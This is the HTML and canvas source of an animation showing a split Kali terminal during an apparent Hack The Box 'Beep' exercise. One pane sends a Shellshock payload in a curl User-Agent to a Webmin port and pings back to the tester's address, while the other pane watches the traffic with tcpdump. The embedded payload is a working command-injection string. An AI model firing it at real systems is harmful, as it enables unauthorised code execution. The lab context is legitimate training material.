
Animation of 790 by 709 pixels, one loop 4870 ms. Source, as an HTML page with a canvas:

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal split</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #24262c; }
canvas { display: block; }
</style>
</head>
<body>
<canvas id="stage" width="790" height="709"></canvas>
<script>
const ctx = document.getElementById('stage').getContext('2d');
const LOOP = 4870, TICK = 1000 / 15;
const COLS = 117, CW = 6.69, RH = 15.04, LEFT = 5;
const BG = '#24262c', BAR = '#2777ff';
const MONO = '11.15px "Noto Sans Mono", "DejaVu Sans Mono", monospace';
const SANS = '11.45px "Noto Sans", "Open Sans", sans-serif';
const USER = 'user', DIR = '~/htb/beep';
const TITLE = `${USER}@kali: ${DIR} 117x24`;

// Colours for an active pane and for a dimmed one
const BRIGHT = { text: '#ffffff', blue: '#2f74e6', red: '#dc1620', skull: '#f2f2f2' };
const DIM = { text: '#cfd0d2', blue: '#2a62bd', red: '#b9141c', skull: '#dedede' };

const CURL = `curl -ks -A "() { :;}; echo Content-Type: text/html; ping -c 1 10.10.14.2;" https://beep.htb:10000`;
const DUMP = 'tcpdump -i tun0';

const wrap = lines => lines.flatMap(s => s.length > COLS ? [s.slice(0, COLS), s.slice(COLS)] : [s]);

const HOST = '10.10.14.2.49836', BOX = 'beep.htb.webmin';
const head = (time, out, flags) =>
  `05:13:${time} IP ${out ? HOST : BOX} > ${out ? BOX : HOST}: Flags [${flags}], `;
const packet = (time, out, flags, info, val, ecr, len) =>
  head(time, out, flags) + `${info}, options [nop,nop,TS val ${val} ecr ${ecr}], length ${len}`;

const INTRO = [
  'tcpdump: verbose output suppressed, use -v[v]... for full protocol decode',
  'listening on tun0, link-type RAW (Raw IP), snapshot length 262144 bytes'
];

const EARLY = wrap([
  head('13.720972', 1, 'S') + 'seq 2664799534, win 64240, options [mss 1460,sackOK,TS val 3019130729 ecr 0,nop,wscale 7], length 0',
  head('13.756742', 0, 'S.') + 'seq 1400406871, ack 2664799535, win 5792, options [mss 1337,sackOK,TS val 31305474 ecr 3019130729,nop,wscale 7], length 0',
  packet('13.756777', 1, '.', 'ack 1, win 502', 3019130765, 31305474, 0),
  packet('13.757218', 1, 'P.', 'seq 1:518, ack 1, win 502', 3019130765, 31305474, 517),
  packet('13.792465', 0, '.', 'ack 518, win 54', 31305510, 3019130765, 0),
  packet('13.794105', 0, 'P.', 'seq 1:787, ack 518, win 54', 31305512, 3019130765, 786),
  packet('13.794126', 1, '.', 'ack 787, win 501', 3019130802, 31305512, 0),
  packet('13.794773', 1, 'P.', 'seq 518:652, ack 787, win 501', 3019130803, 31305512, 134),
  packet('13.873252', 0, 'P.', 'seq 787:846, ack 652, win 62', 31305591, 3019130803, 59),
  packet('13.873284', 1, '.', 'ack 846, win 501', 3019130881, 31305591, 0)
]);

const LATE = wrap([
  'S val 31305711 ecr 3019130966], length 986',
  packet('13.994356', 1, '.', 'ack 3072, win 501', 3019131002, 31305711, 0),
  packet('14.022167', 0, '.', 'seq 3072:4397, ack 854, win 71', 31305740, 3019130966, 1325),
  packet('14.022180', 1, '.', 'ack 4397, win 501', 3019131030, 31305740, 0),
  packet('14.022274', 0, '.', 'seq 4397:5722, ack 854, win 71', 31305740, 3019130966, 1325),
  packet('14.022281', 1, '.', 'ack 5722, win 494', 3019131030, 31305740, 0),
  packet('14.023100', 0, '.', 'seq 5722:7047, ack 854, win 71', 31305741, 3019130966, 1325),
  packet('14.023108', 1, '.', 'ack 7047, win 501', 3019131031, 31305741, 0),
  packet('14.023120', 0, 'FP.', 'seq 7047:7206, ack 854, win 71', 31305741, 3019130966, 159),
  packet('14.023592', 1, 'P.', 'seq 854:891, ack 7207, win 501', 3019131032, 31305741, 37),
  packet('14.023715', 1, 'F.', 'seq 891, ack 7207, win 501', 3019131032, 31305741, 0)
]);

const PAGE = wrap([
  `<td valign=top  class='ui_label'><b> </b></td>`,
  `<td valign=top colspan=1  class='ui_value'><input class='ui_checkbox' type=checkbox name="save" value="1"  id="save_1" > <label for="save_1">Remember login permanently?</label>`,
  '</td>', '</tr>', '</tbody></table></td></tr></table>', '</td></tr>', '</table>', '',
  `<input class='ui_submit' type=submit value="Login">`,
  '<input type=reset value="Clear">',
  '</form>', '</center>', '',
  '<script>', 'if (window != window.top) {',
  '        window.top.location = window.location;', '        }',
  '<\/script>', '</div><p>', '<br>', '</body></html>'
]);

function rect(color, x, y, w, h) {
  ctx.fillStyle = color;
  ctx.fillRect(x, y, w, h);
}

function write(text, col, y, color, bold) {
  ctx.font = (bold ? 'bold ' : '') + MONO;
  ctx.fillStyle = color;
  ctx.textAlign = 'left';
  const base = Math.round(y + 11);
  [...text].forEach((ch, i) => {
    if (ch !== ' ') ctx.fillText(ch, LEFT + (col + i) * CW, base);
  });
}

function skull(x, y, color) {
  ctx.fillStyle = color;
  ctx.beginPath();
  ctx.ellipse(x, y - 1, 5.6, 5, 0, 0, 7);
  ctx.fill();
  ctx.fillRect(x - 3.3, y + 2, 6.6, 3.8);
  ctx.fillStyle = '#2c2d31';
  ctx.beginPath();
  ctx.arc(x - 2.5, y, 1.6, 0, 7);
  ctx.arc(x + 2.5, y, 1.6, 0, 7);
  ctx.fill();
  ctx.fillRect(x - 0.5, y + 2, 1, 1.2);
}

function prompt(y, c, cmd) {
  const mid = Math.round(y + 7) + 0.5, low = Math.round(y + RH + 7) + 0.5;
  ctx.strokeStyle = c.blue;
  ctx.lineWidth = 1;
  ctx.beginPath();
  ctx.moveTo(LEFT + 3 * CW, mid);
  ctx.lineTo(8.5, mid);
  ctx.lineTo(8.5, low);
  ctx.lineTo(LEFT + 2 * CW, low);
  ctx.stroke();
  write('(', 3, y, c.blue);
  write(USER, 4, y, c.red, true);
  skull(LEFT + 9 * CW, y + 7.6, c.skull);
  write('kali', 10, y, c.red, true);
  write(')-[', 14, y, c.blue);
  write(DIR, 17, y, c.text, true);
  write(']', 27, y, c.blue);
  write('#', 2, y + RH, c.red, true);
  write(cmd, 4, y + RH, c.text);
}

function titleBar(y, active) {
  if (active) {
    rect(BAR, 4, y, 786, 15.5);
    rect('#1f62d6', 25, y, 1, 15.5);
  } else {
    rect('#22242a', 4, y, 786, 15.5);
  }
  rect('#15161a', 7, y + 2, 12, 11.5);
  const tiles = [[8, 3], [13, 3], [8, 8], [13, 8]];
  tiles.forEach(([x, dy], i) => {
    const red = active && i === 0;
    rect(red ? '#e0202a' : '#e4e5e8', x, y + dy, 4, i === 3 ? 2 : 4);
  });
  ctx.font = SANS;
  ctx.textAlign = 'center';
  ctx.fillStyle = '#f4f5f7';
  ctx.fillText(TITLE, 412.5, y + 12);
}

function caret(y0, col, row, active, lit) {
  const x = Math.round(LEFT + col * CW), y = Math.round(y0 + row * RH);
  if (!active) {
    ctx.strokeStyle = '#e6e6e6';
    ctx.lineWidth = 1;
    ctx.strokeRect(x - 0.5, y + 0.5, 7, 15);
  } else if (lit) {
    rect('#ffffff', x, y, 7, 15);
  }
}

function pane(y0, active, view, lit) {
  const c = active ? BRIGHT : DIM;
  titleBar(y0 - 16, active);
  view.lines.forEach((s, i) => write(s, 0, y0 + (view.from + i) * RH, c.text));
  if (view.prompt >= 0) prompt(y0 + view.prompt * RH, c, view.cmd);
  if (view.caret) caret(y0, view.caret[0], view.caret[1], active, lit);
}

function ibeam([x, y]) {
  const shape = (color, width) => {
    ctx.strokeStyle = color;
    ctx.lineWidth = width;
    ctx.beginPath();
    for (const s of [-1, 1]) {
      ctx.moveTo(x - 2.5, y + s * 6);
      ctx.lineTo(x - 0.5, y + s * 6);
      ctx.lineTo(x, y + s * 5);
      ctx.lineTo(x + 0.5, y + s * 6);
      ctx.lineTo(x + 2.5, y + s * 6);
    }
    ctx.moveTo(x, y - 5);
    ctx.lineTo(x, y + 5);
    ctx.stroke();
  };
  ctx.lineCap = 'square';
  shape('#f0f0f0', 2.8);
  shape('#15161a', 1);
  ctx.lineCap = 'butt';
}

const mix = (a, b, u) => a.map((v, i) => v + (b[i] - v) * u);

function pointer(k) {
  const entry = [792, 714], rest = [482, 493], high = [475, 477], low = [477, 498];
  if (k < 9) return mix(entry, rest, 1 - (1 - k / 8) ** 2);
  if (k < 12) return high;
  if (k < 25) return mix(high, low, Math.min(1, (k - 11) / 3));
  if (k < 32) return k < 26 ? [476, 491] : [475, 486];
  if (k < 42) {
    const u = Math.min(1, (k - 32) / 4);
    return mix([475, 485], [466, 302], u * u * (3 - 2 * u));
  }
  return null;
}

function topView(k) {
  if (k < 47) {
    const sent = k >= 42;
    return { lines: [], from: 0, prompt: 0, cmd: CURL, caret: sent ? [0, 2] : [4 + CURL.length, 1] };
  }
  if (k < 49) return { lines: PAGE.slice(0, 20), from: 0, prompt: -1, caret: [0, 20] };
  return { lines: PAGE, from: 0, prompt: 22, cmd: '', caret: [4, 23] };
}

function bottomView(k) {
  if (k >= 47) return { lines: LATE, from: 0, prompt: -1 };
  if (k >= 46) return { lines: [INTRO[1], ...EARLY], from: 0, prompt: -1 };
  const rows = k < 43 ? 0 : k < 44 ? 2 : 8;
  const lines = k < 26 ? [] : [...INTRO, ...EARLY.slice(0, rows)];
  const at = k < 25 ? [4 + DUMP.length, 1] : [0, 2 + lines.length];
  return { lines, from: 2, prompt: 0, cmd: DUMP, caret: at };
}

const between = (k, a, b) => k >= a && k < b;

function draw(k) {
  const topActive = k >= 35;
  const lit = !(between(k, 8, 16) || between(k, 53, 61) || k >= 69);
  rect(BG, 0, 0, 790, 709);
  pane(403, !topActive, bottomView(k), lit);
  pane(17, topActive, topView(k), lit);
  rect('#111216', 0, 0, 1, 709);
  rect('#111216', 0, 0, 790, 1);
  rect('#15171b', 4, 382, 786, 1);
  rect('#15171b', 4, 385, 786, 1);
  const p = pointer(k);
  if (p) ibeam(p.map(v => Math.round(v) + 0.5));
}

ctx.textBaseline = 'alphabetic';
ctx.textRendering = 'geometricPrecision';
let shown = -1;

function frame(now) {
  const k = Math.floor((now % LOOP + 3.5) / TICK);
  if (k !== shown) draw(shown = k);
  requestAnimationFrame(frame);
}
frame(performance.now());
</script>
</body>
</html>
```
